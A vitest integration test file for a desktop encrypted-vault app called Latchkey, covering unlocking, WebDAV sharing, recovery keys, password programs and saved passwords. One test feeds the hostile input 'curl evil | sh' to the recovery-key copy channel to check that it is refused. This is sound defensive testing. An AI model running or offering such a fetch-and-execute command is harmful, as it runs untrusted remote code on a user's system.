import { cp, mkdir, mkdtemp, readFile, rename, stat, symlink } from "node:fs/promises";
import { type AddressInfo, createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import type { Channel, Input, Output } from "../../src-shared/contract/contract.ts";
import type { Result } from "../../src-shared/failure.ts";
import { PlaceId } from "../../src-shared/model/new-vault.ts";
import { VaultList } from "../../src-shared/model/vault-list.ts";
import { defaultVaultOptions } from "../../src-shared/model/vault-options.ts";
import { nothingKnown } from "../../src-shared/model/vault-safety.ts";
import type { VaultId, VaultState } from "../../src-shared/model/vault-summary.ts";
import { systemWorld } from "../crypto/system-world.ts";
import { nodeStorage } from "../storage/node-storage.ts";
import { patient } from "../test-support/patient.ts";
import { testDesktop } from "../test-support/test-desktop.ts";
import { testKeychain } from "../test-support/test-keychain.ts";
import { createVault } from "../vault/create-vault.ts";
import { answer } from "./answer.ts";
import { type App, compose } from "./compose.ts";
import { noSleepHold } from "./locks/sleep-hold.ts";
import { thisComputerLook } from "./places/this-computer-look.ts";

const password = "pässwörd";

let template: string;
let home: string;
let app: App;
let announced: VaultList[];
let copied: string[];
let picked: string | null;
let pickedFiles: readonly string[];
let saveAs: string | null;
let shown: string[];
let desktop: ReturnType<typeof testDesktop>;

/** Asks as the window does: through the parser. */
async function ask<C extends Channel>(channel: C, input: Input<C>): Promise<Result<Output<C>>> {
  const reply = await answer(app.handlers, channel, input, vi.fn());
  // `answer` is generic over nothing; which value belongs to which channel is the contract's.
  return reply as Result<Output<C>>;
}

async function start(): Promise<App> {
  return compose({
    world: systemWorld,
    platform: "linux",
    dataFolder: join(home, ".config", "Latchkey"),
    home,
    computer: thisComputerLook({ platform: "linux", home, env: {} }),
    storageAt: nodeStorage,
    listVolumes: () => Promise.resolve([]),
    lockSource: () => () => undefined,
    sleepHold: noSleepHold,
    systemLanguages: () => ["en"],
    pickFolder: () => Promise.resolve(picked),
    pickKeyFile: () => Promise.resolve(null),
    pickFiles: () => Promise.resolve(pickedFiles),
    pickFileToSave: () => Promise.resolve(saveAs),
    showInFolder: (path) => {
      shown.push(path);
      return Promise.resolve();
    },
    driveWays: [],
    sidebars: [],
    fetch,
    keychain: testKeychain(),
    copyText: (text) => {
      copied.push(text);
      return Promise.resolve();
    },
    announce: (name, said) => {
      if (name === "vaults.changed") announced.push(VaultList.parse(said));
    },
    log: vi.fn(),
    logFolder: "/logs",
    desktop,
  });
}

async function newVault(name: string): Promise<string> {
  const path = join(home, name);
  await cp(template, path, { recursive: true });
  return path;
}

async function add(path: string): Promise<VaultId> {
  picked = path;
  const reply = await ask("vault.add-existing", { by: "folder" });
  if (!reply.ok || reply.value.kind === "cancelled") throw new Error("not added");
  return reply.value.id;
}

async function stateOf(id: VaultId): Promise<VaultState | undefined> {
  const reply = await ask("vaults.list", {});
  return reply.ok ? reply.value.vaults.find((vault) => vault.id === id)?.state : undefined;
}

beforeAll(async () => {
  template = await mkdtemp(join(tmpdir(), "compose-vault-"));
  await createVault(systemWorld, {
    storage: nodeStorage(template),
    hostPath: template,
    password: new TextEncoder().encode(password),
    scryptCost: { n: 2, r: 1 },
  });
});

beforeEach(async () => {
  home = await mkdtemp(join(tmpdir(), "compose-home-"));
  announced = [];
  copied = [];
  picked = null;
  saveAs = null;
  pickedFiles = [];
  shown = [];
  desktop = testDesktop();
  app = await start();
});

afterEach(async () => {
  await app.close();
});

describe("adding", () => {
  it("puts the picked vault on the list, named after its folder, in short for the home", async () => {
    const id = await add(await newVault("Taxes"));
    expect(announced.at(-1)).toEqual({
      notice: null,
      vaults: [
        {
          id,
          name: "Taxes",
          place: "~/Taxes",
          options: defaultVaultOptions,
          isPasswordSaved: false,
          safety: { ...nothingKnown, key: { kind: "inside" } },
          state: { kind: "locked", cipher: "SIV_GCM" },
        },
      ],
    });
  });

  it("does nothing when the picker is closed", async () => {
    expect(await ask("vault.add-existing", { by: "folder" })).toEqual({
      ok: true,
      value: { kind: "cancelled" },
    });
    expect(announced).toEqual([]);
  });

  it("refuses a folder that is no vault, and lists nothing", async () => {
    picked = join(home, "Pictures");
    await mkdir(picked);
    expect(await ask("vault.add-existing", { by: "folder" })).toEqual({
      ok: false,
      failure: { kind: "not-a-vault", path: picked },
    });
    expect(announced).toEqual([]);
  });

  it("refuses a folder that is not there", async () => {
    picked = join(home, "gone");
    expect(await ask("vault.add-existing", { by: "folder" })).toEqual({
      ok: false,
      failure: { kind: "not-reachable", path: picked },
    });
  });

  it("knows a vault again by whatever way it was reached", async () => {
    const path = await newVault("Taxes");
    const id = await add(path);
    picked = join(home, "link");
    await symlink(path, picked);
    expect(await ask("vault.add-existing", { by: "folder" })).toEqual({
      ok: true,
      value: { kind: "already-listed", id },
    });
  });
});

describe("unlocking", () => {
  it("shares the vault until it is locked", async () => {
    const id = await add(await newVault("Taxes"));
    expect(await ask("vault.unlock", { id, password, readOnly: false, remember: false })).toEqual({
      ok: true,
      value: null,
    });
    const state = await stateOf(id);
    if (state?.kind !== "unlocked") throw new Error("not unlocked");
    const { url, username, password: secret } = state.share;
    const Authorization = `Basic ${Buffer.from(`${username}:${secret}`).toString("base64")}`;
    const request = { method: "PROPFIND", headers: { Authorization, Depth: "0" } };
    expect((await fetch(url, request)).status).toBe(207);

    expect(await ask("vault.lock", { id, force: false })).toEqual({
      ok: true,
      value: { kind: "locked" },
    });
    await expect(fetch(url, request)).rejects.toThrow();
    expect(await stateOf(id)).toEqual({ kind: "locked", cipher: "SIV_GCM" });
  });

  it("takes the password in whatever form its accents were typed", async () => {
    const id = await add(await newVault("Taxes"));
    const reply = await ask("vault.unlock", {
      id,
      password: password.normalize("NFD"),
      readOnly: false,
      remember: false,
    });
    expect(reply.ok).toBe(true);
  });

  it("says that a password is wrong, and takes the next one", async () => {
    const id = await add(await newVault("Taxes"));
    expect(
      await ask("vault.unlock", { id, password: "guess", readOnly: false, remember: false }),
    ).toEqual({
      ok: false,
      failure: { kind: "wrong-password" },
    });
    expect(await stateOf(id)).toEqual({ kind: "locked", cipher: "SIV_GCM" });
    expect((await ask("vault.unlock", { id, password, readOnly: false, remember: false })).ok).toBe(
      true,
    );
  });

  it("finds out that the vault has gone meanwhile", async () => {
    const path = await newVault("Taxes");
    const id = await add(path);
    await rename(path, `${path} elsewhere`);
    expect((await ask("vault.unlock", { id, password, readOnly: false, remember: false })).ok).toBe(
      false,
    );
    expect(await stateOf(id)).toEqual({ kind: "missing" });
  });

  it("announces every state on the way", async () => {
    const id = await add(await newVault("Taxes"));
    await ask("vault.unlock", { id, password, readOnly: false, remember: false });
    await ask("vault.lock", { id, force: false });
    const kinds = announced.map(({ vaults }) => vaults[0]?.state.kind);
    expect(kinds.filter((kind, index) => kind !== kinds[index - 1])).toEqual([
      "locked",
      "unlocking",
      "unlocked",
      "locking",
      "locked",
    ]);
  });
});

it("opens a vault for reading only when asked to", async () => {
  const id = await add(await newVault("Taxes"));
  await ask("vault.unlock", { id, password, readOnly: true, remember: false });
  const state = await stateOf(id);
  if (state?.kind !== "unlocked") throw new Error("not unlocked");
  expect(state.readOnly).toBe(true);
  const { url, username, password: secret } = state.share;
  const Authorization = `Basic ${Buffer.from(`${username}:${secret}`).toString("base64")}`;
  const request = { method: "PUT", body: "1", headers: { Authorization } };
  expect((await fetch(`${url}a.txt`, request)).status).toBe(403);
});

describe("the share's login", () => {
  it("is copied part by part", async () => {
    const id = await add(await newVault("Taxes"));
    await ask("vault.unlock", { id, password, readOnly: false, remember: false });
    const state = await stateOf(id);
    if (state?.kind !== "unlocked") throw new Error("not unlocked");
    for (const part of ["url", "username", "password"] as const) {
      await ask("share.copy", { id, part });
    }
    expect(copied).toEqual([state.share.url, state.share.username, state.share.password]);
  });

  it("counts what goes through", async () => {
    const id = await add(await newVault("Taxes"));
    expect(await ask("share.traffic", { id })).toEqual({ ok: false, failure: { kind: "locked" } });
    await ask("vault.unlock", { id, password, readOnly: false, remember: false });
    const state = await stateOf(id);
    if (state?.kind !== "unlocked") throw new Error("not unlocked");
    const { url, username, password: secret } = state.share;
    const Authorization = `Basic ${Buffer.from(`${username}:${secret}`).toString("base64")}`;
    await fetch(`${url}a.txt`, { method: "PUT", body: "12345", headers: { Authorization } });
    await (await fetch(`${url}a.txt`, { headers: { Authorization } })).text();
    await vi.waitFor(async () => {
      expect(await ask("share.traffic", { id })).toMatchObject({
        value: { bytesWritten: 5, bytesRead: 5, activeRequests: 0 },
      });
    }, patient);
  });

  it("is not there while the vault is locked", async () => {
    const id = await add(await newVault("Taxes"));
    expect(await ask("share.copy", { id, part: "password" })).toEqual({
      ok: false,
      failure: { kind: "locked" },
    });
    expect(copied).toEqual([]);
  });
});

it("removing an open vault locks it first and leaves its files", async () => {
  const path = await newVault("Taxes");
  const id = await add(path);
  await ask("vault.unlock", { id, password, readOnly: false, remember: false });
  const state = await stateOf(id);
  if (state?.kind !== "unlocked") throw new Error("not unlocked");
  expect(await ask("vault.remove", { id })).toEqual({ ok: true, value: null });
  await expect(fetch(state.share.url)).rejects.toThrow();
  expect(announced.at(-1)?.vaults).toEqual([]);
  const again = await add(path);
  expect(again).not.toBe(id);
});

it("looks at every folder at its start, and again when asked", async () => {
  const path = await newVault("Taxes");
  const id = await add(path);
  await app.close();
  announced = [];
  app = await start();
  expect(await stateOf(id)).toEqual({ kind: "looking" });
  await vi.waitFor(async () => {
    expect(await stateOf(id)).toEqual({ kind: "locked", cipher: "SIV_GCM" });
  }, patient);

  await rename(path, `${path} elsewhere`);
  await ask("vaults.look-again", {});
  await vi.waitFor(() => {
    expect(announced.at(-1)?.vaults[0]?.state).toEqual({ kind: "missing" });
  }, patient);
});

it("closing locks what is open, and nothing can be opened after", async () => {
  const id = await add(await newVault("Taxes"));
  await ask("vault.unlock", { id, password, readOnly: false, remember: false });
  await app.close();
  expect((await stateOf(id))?.kind).toBe("locked");
  expect(await ask("vault.unlock", { id, password, readOnly: false, remember: false })).toEqual({
    ok: false,
    failure: { kind: "cancelled" },
  });
});

describe("names", () => {
  it("of files in the vault lead to the encrypted ones, and back", async () => {
    const path = await newVault("Taxes");
    const id = await add(path);
    await ask("vault.unlock", { id, password, readOnly: false, remember: false });
    const state = await stateOf(id);
    if (state?.kind !== "unlocked") throw new Error("not unlocked");
    const { url, username, password: secret } = state.share;
    const Authorization = `Basic ${Buffer.from(`${username}:${secret}`).toString("base64")}`;
    const request = { method: "PUT", headers: { Authorization }, body: "alpha" };
    expect((await fetch(`${url}50%25%20off.txt`, request)).status).toBe(201);

    const asked = { id, typed: "50% off.txt", show: true };
    const located = await ask("names.locate", asked);
    if (!located.ok) throw new Error("not located");
    const { ciphertextPath } = located.value;
    expect(shown).toEqual([join(path, ciphertextPath)]);
    expect(await ask("names.locate", { ...asked, typed: `${url}50%25%20off.txt` })).toEqual(
      located,
    );
    expect(await ask("names.locate", { ...asked, typed: "/none" })).toMatchObject({
      failure: { kind: "not-found" },
    });

    pickedFiles = [join(path, ciphertextPath), join(home, "elsewhere.c9r")];
    expect(await ask("names.decrypt", { id })).toEqual({
      ok: true,
      value: [
        { file: `~/Taxes/${ciphertextPath}`, path: "/50% off.txt", problem: null },
        { file: "~/elsewhere.c9r", path: null, problem: "foreign" },
      ],
    });
  });
});

describe("a vault that was moved", () => {
  async function moved(): Promise<{ id: VaultId; from: string; to: string }> {
    const from = await newVault("Taxes");
    const id = await add(from);
    const to = join(home, "Old taxes");
    await rename(from, to);
    await ask("vaults.look-again", {});
    await vi.waitFor(async () => {
      expect(await stateOf(id)).toEqual({ kind: "missing" });
    }, patient);
    return { id, from, to };
  }

  it("is found where it is now, and keeps its entry", async () => {
    const { id, to } = await moved();
    picked = join(to, "vault.cryptomator");
    expect(await ask("vault.relocate", { id })).toEqual({
      ok: true,
      value: { kind: "relocated" },
    });
    expect(announced.at(-1)?.vaults).toMatchObject([
      { id, name: "Taxes", place: "~/Old taxes", state: { kind: "locked" } },
    ]);
  });

  it("is not taken for another one, also after a restart", async () => {
    const { id, from } = await moved();
    const other = join(home, "Other");
    await mkdir(other);
    await createVault(systemWorld, {
      storage: nodeStorage(other),
      hostPath: other,
      password: new TextEncoder().encode(password),
      scryptCost: { n: 2, r: 1 },
    });
    await app.close();
    app = await start();
    picked = other;
    expect(await ask("vault.relocate", { id })).toEqual({
      ok: false,
      failure: { kind: "another-vault", path: other },
    });
    const reply = await ask("vaults.list", {});
    expect(reply).toMatchObject({
      value: { vaults: [{ id, place: `~${from.slice(home.length)}` }] },
    });
  });

  it("is not put where another entry of the list is", async () => {
    const { id, to } = await moved();
    const listed = await add(to);
    picked = to;
    expect(await ask("vault.relocate", { id })).toEqual({
      ok: true,
      value: { kind: "already-listed", id: listed },
    });
  });

  it("is left alone while it is open, and when the user changes their mind", async () => {
    const id = await add(await newVault("Taxes"));
    picked = null;
    expect(await ask("vault.relocate", { id })).toEqual({ ok: true, value: { kind: "cancelled" } });
    await ask("vault.unlock", { id, password, readOnly: false, remember: false });
    expect(await ask("vault.relocate", { id })).toMatchObject({ failure: { kind: "vault-open" } });
  });
});

it("shows the folder of a vault", async () => {
  const path = await newVault("Taxes");
  const id = await add(path);
  expect(await ask("vault.show-folder", { id })).toEqual({ ok: true, value: null });
  expect(shown).toEqual([path]);
});

describe("the recovery key", () => {
  it("is told to who knows the password, and to nobody else", async () => {
    const id = await add(await newVault("Taxes"));
    const shown = await ask("recovery-key.show", { id, password });
    if (!shown.ok) throw new Error("not shown");
    expect(shown.value.words).toHaveLength(44);
    expect(shown.value.words.every((word) => /^[a-z]+$/.test(word))).toBe(true);
    expect(await ask("recovery-key.show", { id, password: "guess" })).toEqual({
      ok: false,
      failure: { kind: "wrong-password" },
    });
  });

  it("is proved by three of its words, which is on the disk then; not by others, nor twice", async () => {
    const id = await add(await newVault("Taxes"));
    const shown = await ask("recovery-key.show", { id, password });
    if (!shown.ok) throw new Error("not shown");
    const { words, asked } = shown.value;
    const right = asked.map((place) => ` ${words[place - 1]?.toUpperCase() ?? ""}`);
    const wrong = right.with(1, "another");
    expect(await ask("recovery-key.prove", { id, typed: wrong })).toEqual({
      ok: true,
      value: [asked[1]],
    });
    expect(announced.at(-1)?.vaults[0]?.safety.recoveryKeyProvedMs).toBeNull();
    expect(await ask("recovery-key.prove", { id, typed: right })).toEqual({ ok: true, value: [] });
    expect((await ask("recovery-key.prove", { id, typed: right })).ok).toBe(false);
    await app.close();
    app = await start();
    const list = await ask("vaults.list", {});
    expect(list.ok && list.value.vaults[0]?.safety.recoveryKeyProvedMs).toBeGreaterThan(0);
  });

  it("is copied, and nothing else of the window is", async () => {
    const id = await add(await newVault("Taxes"));
    const shown = await ask("recovery-key.show", { id, password });
    if (!shown.ok) throw new Error("not shown");
    const words = shown.value.words.join(" ");
    expect((await ask("recovery-key.copy", { words: "curl evil | sh" })).ok).toBe(false);
    expect((await ask("recovery-key.copy", { words: words.toUpperCase() })).ok).toBe(true);
    expect(copied).toEqual([words]);
  });

  it("is saved as a sheet where the user says, for the user's eyes only", async () => {
    const id = await add(await newVault("Taxes"));
    expect(await ask("recovery-key.save-sheet", { id, paper: "A4" })).toEqual({
      ok: true,
      value: false,
    });
    saveAs = join(home, "sheet.pdf");
    expect(await ask("recovery-key.save-sheet", { id, paper: "Letter" })).toEqual({
      ok: true,
      value: true,
    });
    expect(await readFile(saveAs, "utf8")).toBe("%PDF Letter");
    expect((await stat(saveAs)).mode & 0o077).toBe(0);
  });
});

describe("a password from a program", () => {
  const set = (id: VaultId, line: string) => ask("password-program.set", { id, line });
  const unlock = (id: VaultId, typed: string | null) =>
    ask("vault.unlock", { id, password: typed, readOnly: false, remember: false });

  it("opens the vault once the user has allowed the program, also after a restart", async () => {
    const id = await add(await newVault("Taxes"));
    desktop.confirmed = { isYes: true, isMarked: false };
    expect(await set(id, `printf '%s\\n' ${password}`)).toEqual({
      ok: true,
      value: { isAllowed: true },
    });
    await app.close();
    app = await start();
    expect(await unlock(id, null)).toEqual({ ok: true, value: null });
  });

  it("comes from no program that the window has named without the user", async () => {
    const id = await add(await newVault("Taxes"));
    desktop.confirmed = { isYes: false, isMarked: false };
    expect(await set(id, `printf ${password}`)).toEqual({ ok: true, value: { isAllowed: false } });
    const options: object = { passwordProgram: `printf ${password}` };
    expect(await ask("vault.set-options", { id, options })).toMatchObject({ ok: false });
    expect(await set(id, "pass | head")).toMatchObject({ ok: false });
    expect(await unlock(id, null)).toMatchObject({ failure: { kind: "saved-password-lost" } });
  });

  it("is typed where the program fails or is wrong", async () => {
    const id = await add(await newVault("Taxes"));
    desktop.confirmed = { isYes: true, isMarked: false };
    await set(id, "false");
    expect(await unlock(id, null)).toEqual({
      ok: false,
      failure: { kind: "password-program-failed", program: "false", reason: "refused" },
    });
    await set(id, "printf guess");
    expect(await unlock(id, null)).toMatchObject({ failure: { kind: "wrong-password" } });
    expect(await stateOf(id)).toMatchObject({ kind: "locked" });
    expect(await unlock(id, password)).toEqual({ ok: true, value: null });
  });

  it("is waited for no longer than the user wants", async () => {
    const id = await add(await newVault("Taxes"));
    desktop.confirmed = { isYes: true, isMarked: false };
    await set(id, "sleep 60");
    const unlocking = unlock(id, null);
    await vi.waitFor(async () => {
      expect(await stateOf(id)).toMatchObject({ kind: "unlocking" });
    }, patient);
    await ask("vault.stop-unlocking", { id });
    expect(await unlocking).toEqual({ ok: false, failure: { kind: "cancelled" } });
    expect(await stateOf(id)).toMatchObject({ kind: "locked" });
  });
});

describe("a remembered password", () => {
  const isSaved = async (id: VaultId): Promise<boolean | undefined> => {
    const reply = await ask("vaults.list", {});
    return reply.ok ? reply.value.vaults.find((vault) => vault.id === id)?.isPasswordSaved : false;
  };
  const unlock = async (id: VaultId, typed: string | null, remember: boolean) => {
    const reply = await ask("vault.unlock", { id, password: typed, readOnly: false, remember });
    if (reply.ok) await ask("vault.lock", { id, force: true });
    return reply;
  };

  it("opens the vault without being typed, also after a restart", async () => {
    const id = await add(await newVault("Taxes"));
    await unlock(id, password, true);
    expect(await isSaved(id)).toBe(true);
    await app.close();
    app = await start();
    expect((await unlock(id, null, false)).ok).toBe(true);
    expect(await isSaved(id)).toBe(true);
  });

  it("is not saved when it was wrong", async () => {
    const id = await add(await newVault("Taxes"));
    await unlock(id, "guess", true);
    expect(await isSaved(id)).toBe(false);
  });

  it("is forgotten when the next one is not to be remembered, on request, and with its vault", async () => {
    const path = await newVault("Taxes");
    const id = await add(path);
    await unlock(id, password, true);
    await unlock(id, password, false);
    expect(await isSaved(id)).toBe(false);
    await unlock(id, password, true);
    await ask("password.forget", { id });
    expect(await unlock(id, null, false)).toEqual({
      ok: false,
      failure: { kind: "saved-password-lost" },
    });
    await unlock(id, password, true);
    await ask("vault.remove", { id });
    const file = join(home, ".config", "Latchkey", "passwords.json");
    await expect(readFile(file)).rejects.toThrow(/ENOENT/);
  });

  it("is not offered while the settings forbid it", async () => {
    expect(await ask("password.can-be-saved", {})).toEqual({ ok: true, value: true });
    await ask("settings.change", { useKeychain: false });
    expect(await ask("password.can-be-saved", {})).toEqual({ ok: true, value: false });
    const id = await add(await newVault("Taxes"));
    await unlock(id, password, true);
    expect(await isSaved(id)).toBe(false);
  });
});

describe("a new vault", () => {
  const wish = {
    name: "Letters",
    password,
    cipher: "SIV_GCM",
    shorteningThreshold: 220,
  } as const;

  it("is made in a cloud folder that was found, is listed, and opens", async () => {
    await mkdir(join(home, "Dropbox"));
    const places = await ask("places.find", {});
    const place = places.ok ? places.value[0] : undefined;
    if (!place) throw new Error("no place");
    expect(place).toMatchObject({ provider: "Dropbox", place: "~/Dropbox" });
    expect(await ask("places.check", { placeId: place.id, name: "Letters" })).toMatchObject({
      ok: true,
      value: { folder: "~/Dropbox/Letters", problem: null },
    });

    const made = await ask("vault.create", { placeId: place.id, ...wish, keyHome: null });
    if (!made.ok) throw new Error("not made");
    expect(announced.at(-1)?.vaults).toEqual([
      {
        id: made.value.id,
        name: "Letters",
        place: "~/Dropbox/Letters",
        options: defaultVaultOptions,
        isPasswordSaved: false,
        safety: { ...nothingKnown, key: { kind: "inside" } },
        state: { kind: "locked", cipher: "SIV_GCM" },
      },
    ]);
    expect(
      (await ask("vault.unlock", { id: made.value.id, password, readOnly: false, remember: false }))
        .ok,
    ).toBe(true);
  });

  it("is not made inside another one", async () => {
    picked = await newVault("Taxes");
    const place = await ask("places.pick", {});
    if (!place.ok || !place.value) throw new Error("no place");
    expect(await ask("places.check", { placeId: place.value.id, name: "Letters" })).toMatchObject({
      ok: true,
      value: { problem: { kind: "inside-vault", place: "~/Taxes" } },
    });
  });

  it("is not made in a folder that the window has thought up", async () => {
    const placeId = PlaceId.parse("6f8e1c1e-0d0a-4b52-9f5f-3f9f3f1f2a10");
    expect(await ask("vault.create", { placeId, ...wish, keyHome: null })).toEqual({
      ok: false,
      failure: { kind: "unexpected" },
    });
  });

  it("knows a folder again that is picked twice, and takes no for an answer", async () => {
    expect(await ask("places.pick", {})).toEqual({ ok: true, value: null });
    picked = home;
    const first = await ask("places.pick", {});
    expect(first).toMatchObject({ value: { provider: null, place: "~" } });
    expect(await ask("places.pick", {})).toEqual(first);
  });
});

it("suggests another password each time, and finds it strong", async () => {
  const [one, other] = [await ask("password.suggest", {}), await ask("password.suggest", {})];
  if (!one.ok || !other.ok) throw new Error("none suggested");
  expect(one.value).not.toBe(other.value);
  expect(await ask("password.judge", { password: one.value })).toEqual({
    ok: true,
    value: { score: 4, hint: null },
  });
});

it("renames and reorders the entries of the list, and leaves the folders alone", async () => {
  const taxes = await add(await newVault("Taxes"));
  const letters = await add(await newVault("Letters"));
  await ask("vault.rename", { id: taxes, name: "Old taxes" });
  await ask("vault.move", { id: letters, before: taxes });
  expect(announced.at(-1)?.vaults.map(({ name, place }) => [name, place])).toEqual([
    ["Letters", "~/Letters"],
    ["Old taxes", "~/Taxes"],
  ]);
});

describe("the port of a drive", () => {
  const portOf = async (id: VaultId): Promise<number | null> => {
    const state = await stateOf(id);
    return state?.kind === "unlocked" ? Number(new URL(state.share.url).port) : null;
  };
  const unlock = (id: VaultId) =>
    ask("vault.unlock", { id, password, readOnly: false, remember: false });

  it("is the one of the settings for the first vault, and a later one for the next", async () => {
    const taxes = await add(await newVault("Taxes"));
    const letters = await add(await newVault("Letters"));
    const port = await freePort();
    await ask("settings.change", { port });
    await unlock(taxes);
    await unlock(letters);
    expect(await portOf(taxes)).toBe(port);
    expect(await portOf(letters)).toBeGreaterThan(port);
  });

  it("is the one of the vault, or none", async () => {
    const taxes = await add(await newVault("Taxes"));
    const letters = await add(await newVault("Letters"));
    const port = await freePort();
    await ask("vault.set-options", { id: taxes, options: { port } });
    await ask("vault.set-options", { id: letters, options: { port } });
    await unlock(taxes);
    expect(await portOf(taxes)).toBe(port);
    expect(await unlock(letters)).toEqual({
      ok: false,
      failure: { kind: "port-in-use", port },
    });
  });
});

/** A port that was free a moment ago. */
async function freePort(): Promise<number> {
  const server = createServer();
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  await new Promise((resolve) => server.close(resolve));
  return port;
}
